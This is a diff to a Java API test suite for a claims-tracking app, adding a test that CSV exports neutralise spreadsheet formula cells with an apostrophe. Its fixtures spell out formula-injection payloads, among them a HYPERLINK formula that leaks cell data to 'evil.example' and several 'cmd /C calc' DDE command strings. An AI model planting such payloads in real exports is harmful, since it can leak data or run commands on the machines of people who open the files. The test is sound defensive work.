@@ -155,6 +155,64 @@ class ReportApiTest {
     }
 
     @Test
+    void csvTextThatASpreadsheetWouldRunStartsWithAnApostropheButNumbersKeepTheirSign() throws SQLException {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\") " + Fixtures.unique("grp");
+        long formula = Fixtures.created("/api/parties", Map.of("name", hyperlink, "kind", "armed_group",
+                "aliases", List.of("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")));
+        String plus = "+cmd|' /C calc'!A0 " + Fixtures.unique("x");
+        long plusParty = Fixtures.created("/api/parties", Map.of("name", plus, "kind", "coalition"));
+        long tab;
+        long carriageReturn;
+        String tabbed = "\tTabbed " + Fixtures.unique("p");
+        String returned = "\rReturned " + Fixtures.unique("p");
+        long accused = Fixtures.state("Accused in the future");
+        try (Connection connection = TestDatabase.connect();
+                PreparedStatement insert = connection.prepareStatement("insert into party (name, kind, created_by,"
+                        + " updated_by) values (?, 'state', 'report-test', 'report-test') returning id");
+                PreparedStatement future = connection.prepareStatement("insert into claim (claimant_id,"
+                        + " addressed_party_id, proposition, kind, stated_on, created_by, updated_by)"
+                        + " values (?, ?, '-1 claims a negative', 'other', current_date + 10, 'report-test', 'report-test')")) {
+            insert.setString(1, tabbed);
+            var rows = insert.executeQuery();
+            rows.next();
+            tab = rows.getLong(1);
+            insert.setString(1, returned);
+            rows = insert.executeQuery();
+            rows.next();
+            carriageReturn = rows.getLong(1);
+            future.setLong(1, q);
+            future.setLong(2, accused);
+            assertEquals(1, future.executeUpdate());
+        }
+
+        Map<Long, List<String>> byParty = new java.util.HashMap<>();
+        for (long party : List.of(formula, plusParty, tab, carriageReturn)) {
+            List<List<String>> records = Csv.parse(given().get("/api/reports/parties?partyId={p}&format=csv", party)
+                    .then().statusCode(200).extract().asString());
+            assertEquals(2, records.size());
+            byParty.put(party, records.get(1));
+        }
+        List<String> header = Csv.parse(given().get("/api/reports/parties?partyId={p}&format=csv", formula)
+                .then().extract().asString()).get(0);
+        int name = header.indexOf("party_name");
+        int aliases = header.indexOf("aliases");
+        assertEquals("'" + hyperlink, byParty.get(formula).get(name));
+        assertEquals("'-2+3+cmd|' /C calc'!A0; @SUM(1+1)*cmd|' /C calc'!A0", byParty.get(formula).get(aliases),
+                "only the cell's first character counts");
+        assertEquals("'" + plus, byParty.get(plusParty).get(name));
+        assertEquals("'" + tabbed, byParty.get(tab).get(name));
+        assertEquals("'" + returned, byParty.get(carriageReturn).get(name));
+        given().get("/api/reports/parties?partyId={p}", formula).then().statusCode(200)
+                .body("[0].party_name", is(hyperlink));
+
+        List<List<String>> unresolved = Csv.parse(given().get("/api/reports/unresolved_claims?partyId={p}&format=csv",
+                accused).then().statusCode(200).extract().asString());
+        List<String> columns = unresolved.get(0);
+        assertEquals("-10", unresolved.get(1).get(columns.indexOf("age_days")), "a number column keeps its sign");
+        assertEquals("'-1 claims a negative", unresolved.get(1).get(columns.indexOf("proposition")));
+    }
+
+    @Test
     void theAcceptHeaderChoosesTheFormatUnlessFormatIsGiven() {
         given().accept("text/csv").get("/api/reports/unresolved_claims?partyId={p}", p).then().statusCode(200)
                 .contentType(startsWith("text/csv"))
@@ -169,17 +227,17 @@ class ReportApiTest {
     }
 
     @Test
-    void largeResultsAreStreamedInFull() {
+    void largeResultsAreSentInFullWithTheirLength() {
         ExtractableResponse<Response> json = export("/api/reports/claim_positions?partyId=" + bulkParty);
-        assertEquals("chunked", json.header("Transfer-Encoding"));
-        assertNull(json.header("Content-Length"));
+        assertNull(json.header("Transfer-Encoding"));
+        assertEquals(String.valueOf(json.asByteArray().length), json.header("Content-Length"));
         List<String> dates = json.jsonPath().getList("claim_stated_on");
         assertEquals(BULK, dates.size());
         assertEquals(dates.stream().sorted().toList(), dates, "in the report's order");
         assertEquals(BULK, json.jsonPath().getList("findAll { it.position == 'unresolved' }").size());
 
         ExtractableResponse<Response> csv = export("/api/reports/claim_positions?format=csv&partyId=" + bulkParty);
-        assertEquals("chunked", csv.header("Transfer-Encoding"));
+        assertEquals(String.valueOf(csv.asByteArray().length), csv.header("Content-Length"));
         assertEquals(BULK + 1, Csv.parse(csv.asString()).size());
 
         List<String> window = export("/api/reports/claim_positions?partyId=" + bulkParty + "&from=" + D.plusDays(10)
